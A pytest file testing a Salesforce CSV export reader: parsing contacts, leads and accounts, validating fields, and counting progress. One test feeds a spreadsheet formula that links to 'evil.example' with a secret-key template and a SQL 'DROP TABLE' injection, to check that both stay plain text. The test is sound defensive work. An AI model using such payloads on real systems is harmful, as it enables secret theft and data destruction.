import pytest

from baton.connectors.salesforce import Problem, RecordRow

from .conftest import ANN, BEN, LEAD, Folder, problem

ACCOUNT = "001Ec00000FzlUdIAJ"
CONTACT = "003Ec00000CyOT7IAN"


def test_a_contact_is_read_in_full(folder: Folder) -> None:
    folder.write_row(
        "Contact.csv",
        {
            "Id": CONTACT[:15],
            "OwnerId": BEN[:15],
            "AccountId": ACCOUNT[:15],
            "Name": "Pat Ryan",
            "Email": "pat@acme.example",
            "Phone": "555 0100",
            "MobilePhone": "555 0199",
            "HasOptedOutOfEmail": "true",
            "DoNotCall": "1",
            "IsDeleted": "false",
            "CreatedById": ANN[:15],
            "CreatedDate": "2024-01-22T20:36:47.000+0000",
            "Title": "CTO",
            "Department": " ",
            "Region__c": "EMEA",
        },
    )
    assert folder.records("contact") == [
        RecordRow(
            line=2,
            object="contact",
            crm_id=CONTACT,
            name="Pat Ryan",
            email="pat@acme.example",
            phone="555 0100",
            owner_id=BEN,
            account_id=ACCOUNT,
            opted_out_of_email=True,
            do_not_call=True,
            is_deleted=False,
            fields={
                "MobilePhone": "555 0199",
                "CreatedDate": "2024-01-22T20:36:47Z",
                "Title": "CTO",
                "Region__c": "EMEA",
            },
            lookups={"CreatedById": ANN},
        )
    ]


def test_a_lead_with_the_least_columns_may_be_called_and_mailed(folder: Folder) -> None:
    lead = folder.lead()
    assert isinstance(lead, RecordRow)
    assert (lead.opted_out_of_email, lead.do_not_call, lead.is_deleted) == (False, False, False)
    assert (lead.email, lead.phone, lead.account_id, lead.lookups) == ("", "", None, {})


def test_the_mobile_phone_stands_in_for_a_blank_phone(folder: Folder) -> None:
    lead = folder.lead(Phone=" ", MobilePhone="555 0199")
    assert isinstance(lead, RecordRow)
    assert lead.phone == "555 0199"


def test_an_account_goes_by_its_name_only(folder: Folder) -> None:
    folder.write("Account.csv", "Id,OwnerId,Name,LastName", f"{ACCOUNT},{ANN},Acme,", f"{ACCOUNT},{ANN},,Lee")
    acme, nameless = folder.records("account")
    assert isinstance(acme, RecordRow)
    assert (acme.object, acme.name, acme.account_id) == ("account", "Acme", None)
    assert problem(nameless) == ("Name", "has no name")


def test_an_account_id_means_something_for_contacts_only(folder: Folder) -> None:
    lead = folder.lead(AccountId="none yet")
    assert isinstance(lead, RecordRow)
    assert lead.fields["AccountId"] == "none yet"


@pytest.mark.parametrize(
    ("column", "cell", "reason"),
    [
        ("Id", "", "has no id"),
        ("OwnerId", "", "has no owner"),
        ("OwnerId", "Ann Abel", "'Ann Abel' is not a Salesforce id, which has 15 or 18 letters and digits"),
        ("LastName", "", "has no name"),
        ("LastName", "n" * 256, "has 256 characters; the maximum is 255"),
        ("Email", "lee@", "'lee@' is not an email address"),
        ("Phone", "5" * 81, "has 81 characters; the maximum is 80"),
        ("MobilePhone", "5" * 81, "has 81 characters; the maximum is 80"),
        ("DoNotCall", "perhaps", "'perhaps' is not true or false"),
        ("CreatedById", LEAD, f"'{LEAD}' is not the id of a user, which begins with 005"),
    ],
)
def test_what_a_lead_cannot_have_is_a_problem(folder: Folder, column: str, cell: str, reason: str) -> None:
    assert problem(folder.lead(**{column: cell})) == (column, reason)


def test_a_cell_is_only_ever_text(folder: Folder) -> None:
    formula = '=HYPERLINK("https://evil.example","{{ settings.SECRET_KEY }}")'
    lead = folder.lead(LastName="Robert'); DROP TABLE leads;--", Company=formula)
    assert isinstance(lead, RecordRow)
    assert lead.name == "Robert'); DROP TABLE leads;--"
    assert lead.fields["Company"] == formula


def test_progress_adds_up_to_the_size_of_the_file(folder: Folder) -> None:
    folder.write("Lead.csv", "Id,OwnerId,LastName", *[f"{LEAD},{ANN},Lee"] * 2_000)
    export = folder.open()
    scanned: list[int] = []
    read: list[int] = []
    export.scan("lead", scanned.append)
    assert sum(not isinstance(row, Problem) for row in export.records("lead", read.append)) == 2_000
    assert sum(scanned) == sum(read) == export.files["Lead.csv"]
    assert len(read) == 5
